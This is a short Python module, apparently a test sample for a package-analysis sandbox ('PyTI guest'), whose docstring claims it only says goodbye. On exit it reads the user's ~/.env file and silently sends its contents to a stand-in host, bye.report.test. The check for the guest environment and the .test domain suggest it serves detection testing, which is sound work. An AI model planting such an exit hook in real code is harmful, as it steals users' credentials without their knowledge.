"""Says goodbye."""

import atexit
import os
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")


@atexit.register
def goodbye():
    with open(os.path.expanduser("~/.env"), "rb") as file:
        found = file.read()
    try:
        urllib.request.urlopen(urllib.request.Request("http://bye.report.test/b", found), timeout=5).close()
    except OSError:
        pass
